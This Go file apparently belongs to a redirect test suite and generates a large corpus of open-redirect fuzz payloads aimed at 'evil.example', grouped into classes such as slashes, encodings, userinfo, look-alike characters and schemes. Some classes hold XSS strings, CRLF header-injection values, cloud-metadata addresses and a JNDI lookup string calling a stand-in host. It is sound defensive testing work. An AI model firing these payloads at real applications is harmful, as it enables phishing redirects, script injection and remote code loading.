package redirecttest

import (
	"fmt"
	"net/url"
	"strconv"
	"strings"
)

const evil = "evil.example"

// format returns the content of corpus.txt.
func format(list []Payload) string {
	var b strings.Builder
	for _, p := range list {
		b.WriteString(p.Class + "\t" + strconv.QuoteToASCII(p.Text) + "\n")
	}
	return b.String()
}

// generate returns payloads derived from the rules of the URL Standard and from
// known attacks. It returns each text once, always in the same order.
func generate() []Payload {
	var list []Payload
	seen := map[string]bool{}
	for _, class := range []struct {
		name  string
		texts []string
	}{
		{Local, localPaths()},
		{"slashes", slashes()},
		{"tabs and newlines", tabsAndNewlines()},
		{"encoded", encoded()},
		{"userinfo", userinfo()},
		{"dot segments", dotSegments()},
		{"schemes", schemes()},
		{"look-alikes", lookAlikes()},
		{"controls", controls()},
		{"not UTF-8", notUTF8()},
		{"header injection", headerInjection()},
		{"addresses", addresses()},
		{"ports", ports()},
		{"long", long()},
		{"relative", relatives()},
		{"own routes", ownRoutes()},
	} {
		for _, text := range class.texts {
			if !seen[text] {
				seen[text] = true
				list = append(list, Payload{class.name, text})
			}
		}
	}
	return list
}

// each replaces %s in each form with each part.
func each(parts []string, forms ...string) []string {
	var list []string
	for _, part := range parts {
		for _, form := range forms {
			list = append(list, strings.ReplaceAll(form, "%s", part))
		}
	}
	return list
}

func localPaths() []string {
	return []string{
		"/", "/reports", "/reports/", "/a/b/c.html", "/call_api?x=1&y=a%2Fb", "/a?next=//" + evil, "/a?next=https://" + evil + "/",
		"/a#part", "/a?b#c?d", "/a?#", "/@" + evil, "/:80", "/a:b", "/a;b=c", "/a,b", "/a=b&c", "/~user", "/a*b", "/a!b", "/a'b", "/(a)",
		"/%2e%2e%2f", "/100%25", "/a%20b", "/a b", "/a+b", "/日本?q=語", "/é", "/a|b", "/{id}", "/a?q=\"x\"", "/a?q=x\\y", "/?", "/#",
		"/a/./b", "/a/../b", "/./a", "/../a", "/a//b", "/http://" + evil, "/javascript:alert(1)", "/data:text/html,x",
	}
}

// slashes starts with all sequences of up to five slashes and backslashes.
func slashes() []string {
	runs := []string{""}
	var list []string
	for range 5 {
		var longer []string
		for _, run := range runs {
			longer = append(longer, run+"/", run+`\`)
		}
		runs = longer
		for _, run := range runs {
			if run != "/" {
				list = append(list, run+evil)
			}
		}
	}
	return append(list, each([]string{"//", `/\`, `\/`, `\\`}, "%s", "%s/", "%s%s", "%s?", "%s#", "%s.", "%s"+evil+"/%2f..", "%s"+evil+"/..", "%s "+evil)...)
}

func tabsAndNewlines() []string {
	gaps := []string{"\t", "\n", "\r", "\r\n", "\t\t", "\n\t"}
	return append(
		each(gaps, "/%s/"+evil, "%s//"+evil, "//%s"+evil, "/%s\\"+evil, "\\%s/"+evil, "/%s"+evil, "%s/%s/%s"+evil, "/.%s//"+evil, "/%s./"+"/"+evil),
		each(gaps[:3], "java%sscript:alert(1)", "%sjavascript:alert(1)", "javascript%s:alert(1)", "ht%stps://"+evil, "https:%s//"+evil, "https%s://"+evil)...,
	)
}

// encoded has percent-encoded slashes and other delimiters, encoded once and twice.
func encoded() []string {
	var list []string
	for _, b := range []byte{'/', '\\', '\t', '\n', '\r', 0, ' ', '.', '@', ':', '?', '#', '%'} {
		once := fmt.Sprintf("%%%02x", b)
		twice := "%25" + once[1:]
		list = append(list, each([]string{once, strings.ToUpper(once), twice}, "/%s"+evil, "/%s/"+evil, "%s/"+evil, "//%s"+evil)...)
	}
	for _, whole := range []string{"//" + evil, `/\` + evil, "https://" + evil, "javascript:alert(1)", "/\t/" + evil} {
		once := url.QueryEscape(whole)
		list = append(list, once, url.QueryEscape(once), "/"+once, "/"+url.QueryEscape(once))
	}
	return append(list, "/%", "/%2", "/%zz", "/%u002f"+evil, "/&sol;"+evil, "/&#47;"+evil, "/&#x2f;/"+evil, "/%c0%af"+evil, "/%e0%80%af"+evil)
}

func userinfo() []string {
	return append(
		each([]string{"//", "https://", `/\`, `\\`, "https:"}, "%slocalhost@"+evil, "%slocalhost:3000@"+evil, "%sa:b@"+evil, "%s@"+evil, "%slocalhost%40"+evil,
			"%slocalhost@@"+evil, "%slocalhost\\@"+evil, "%s"+evil+"\\@localhost", "%s"+evil+"#@localhost", "%s"+evil+"?@localhost"),
		"@"+evil, "//@", "/a@"+evil, "a@"+evil, ".@"+evil)
}

func dotSegments() []string {
	dots := []string{".", "..", "%2e", "%2E", "%2e%2e", "%2E.", ".%2e", "..;", "..."}
	list := each(dots, "/%s//"+evil, "/%s/\\"+evil, "/a/%s//"+evil, "/%s/%s//"+evil, "%s//"+evil, "/%s///"+evil, "/%s\\/"+evil, "/%s/%s/../"+"/"+evil)
	for _, first := range dots[:7] {
		for _, second := range dots[:7] {
			list = append(list, "/a/b/"+first+"/"+second+"//"+evil)
		}
	}
	// Dot segments after the host remove it if a parser normalizes before it
	// looks for the host.
	for _, start := range []string{"//", "///", "////", `/\`, `//\`, "/.//", "https:///"} {
		for up := 1; up <= 4; up++ {
			list = append(list, start+evil+strings.Repeat("/..", up), start+evil+strings.Repeat("/%2e%2e", up)+"/", start+strings.Repeat("../", up)+evil)
		}
	}
	return append(list, "///../..", "/a/..//..//"+evil, "/a//../..//"+evil, "/.", "/..", "/.//", "/..//", "/./", "/%2e//%2E", "/.//.")
}

func schemes() []string {
	names := []string{"http", "https", "HTTPS", "hTtP", "javascript", "JavaScript", "jAvAsCrIpT", "data", "vbscript", "file", "ftp", "ws", "wss", "blob",
		"filesystem", "about", "view-source", "intent", "mailto", "tel", "sms", "chrome", "ms-settings", "android-app", "x", "a+b.c-d", "1x", "-x"}
	return append(
		each(names, "%s://"+evil, "%s:"+evil, "%s:/"+evil, "%s:\\\\"+evil, " %s://"+evil, "\x01%s://"+evil),
		"javascript:alert(1)", "javascript://localhost/%0aalert(1)", "javascript:/*/alert(1)", "data:text/html,<script>alert(1)</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "blob:https://"+evil+"/x", "view-source:https://"+evil,
		"https:///"+evil, "https:////"+evil, "https:/\\"+evil, "https:\\/"+evil, "http:"+evil, "http:/"+evil, "://"+evil, ":"+evil, ":/"+evil)
}

// lookAlikes has characters that look like delimiters or are mapped to them.
func lookAlikes() []string {
	marks := strings.Split("\uff0f \uff3c \u2215 \u2044 \u29f8 \u29f9 \u2216 \ufe68 \u3002 \uff0e \uff61 \u2024 \u2025 \u2100 \u2101 \u2105 \u2106 \uff1a \ufe55 \ufe13 \uff20 \ufe6b \uff1f \uff03 \u1735 \u0337 \u0338", " ")
	blanks := strings.Split("\u00a0,\u1680,\u180e,\u2000,\u2003,\u2007,\u200b,\u200c,\u200d,\u200e,\u202e,\u2028,\u2029,\u202f,\u205f,\u2060,\u3000,\ufeff,\u00ad,\u0085,\u2066", ",")
	list := each(marks, "/%s"+evil, "%s%s"+evil, "//evil%sexample")
	list = append(list, each(blanks, "/%s/"+evil, "%s//"+evil, "/%s"+evil)...)
	return append(list, "//ⓔⓥⓘⓛ.example", "//ｅｖｉｌ．ｅｘａｍｐｌｅ", "//evil。example", "//localhost.ｅｖｉｌ.example", "https：//"+evil, "ｈttps://"+evil, "//xn--evil", "//еvil.example")
}

func controls() []string {
	var list []string
	for c := range 0x20 {
		list = append(list, each([]string{string(rune(c))}, "/%s/"+evil, "%s//"+evil)...)
	}
	return append(list, each([]string{"\x00", "\x7f", "\u0080", "\u009f", "\x00\x00", " "}, "/%s/"+evil, "%s//"+evil, "/%s\\"+evil, "//"+evil+"%s", "/a%s")...)
}

func notUTF8() []string {
	return each([]string{"\xff", "\xfe\xff", "\xc0\xaf", "\xe0\x80\xaf", "\xc0\xae", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc3"}, "/%s/"+evil, "/%s"+evil, "%s//"+evil)
}

func headerInjection() []string {
	return append(
		each([]string{"\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\u2028"},
			"/a%sSet-Cookie: x=1", "/%sLocation: https://"+evil, "/a?b=%sX: y", "/a%s%s<script>alert(1)</script>"),
		"/\"><script>alert(1)</script>", "/'onmouseover='alert(1)", "/<svg/onload=alert(1)>")
}

// addresses has IP addresses in all notations that browsers accept.
func addresses() []string {
	hosts := []string{"[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[fe80::1%25eth0]", "[::1]:3000", "127.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0",
		"2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "0X7F.0.0.1", "169.254.169.254", "1.1.1.1.", "256.256.256.256", "[", "[]", "]", "localhost", "LOCALHOST", "localhost."}
	return each(hosts, "//%s/", "https://%s", `/\%s`)
}

func ports() []string {
	return each([]string{"//", "https://", "http://", `\\`}, "%s"+evil+":80", "%s"+evil+":443", "%slocalhost:3000:80", "%slocalhost:3000."+evil, "%slocalhost:"+evil,
		"%slocalhost:99999", "%slocalhost:-1", "%slocalhost:", "%slocalhost:3000#@"+evil, "%slocalhost:3000\\@"+evil, "%slocalhost:0", "%s:80", "%s:"+evil)
}

func long() []string {
	var list []string
	for _, n := range []int{1023, 1024, 1025, 2048, 8000} {
		list = append(list, "/"+strings.Repeat("a", n-1), "//"+strings.Repeat("a", n-2), "/"+strings.Repeat("/", n-1))
	}
	return append(list, "/"+strings.Repeat("語", 400), "/"+strings.Repeat(" ", 1000), strings.Repeat("/.", 500)+"//"+evil, strings.Repeat("/%2e", 250)+"//"+evil,
		strings.Repeat("/..", 300)+"//"+evil, "/"+strings.Repeat("a/../", 190)+"/"+evil, "/"+strings.Repeat("\t", 900)+"/"+evil, strings.Repeat(`\`, 1000)+evil)
}

func relatives() []string {
	return []string{
		"", " ", ".", "..", "./", "../", "reports", "./reports", "../reports", "?x=1", "#x", "?//" + evil, "#//" + evil, ";//" + evil, "&//" + evil, "~//" + evil, "*", "%2f", "a:b", "a:b@" + evil,
		"/;//" + evil, "/a;//" + evil, "/?//" + evil, "/?\\\\" + evil, "/#//" + evil, "/#\\\\" + evil, "?return_to=//" + evil, evil, "www." + evil, evil + "/a", "." + evil, "-" + evil,
		"localhost." + evil, "null", "undefined", "false", "0", "[object Object]", "$" + "{jndi:ldap://" + evil + "}", "{{7*7}}", "//" + evil + ";/a", "/a/b/../../../..//" + evil,
	}
}

// ownRoutes has routes of the application that start a sign-in or end a session.
func ownRoutes() []string {
	return append(
		each([]string{"/login", "/logout", "/getAToken"}, "%s", "%s/", "%s?x", "%s#x", "%s?return_to=//"+evil, "/.%s", "/a/..%s", "/%2e%s", "%s/.", "%s/a/..", "%s/./"),
		"/%6cogin", "/%6Cogout", "/getAToken?code=x&state=y", "/LOGIN", "/login%2f", "/login;x", "/./%6cogin")
}
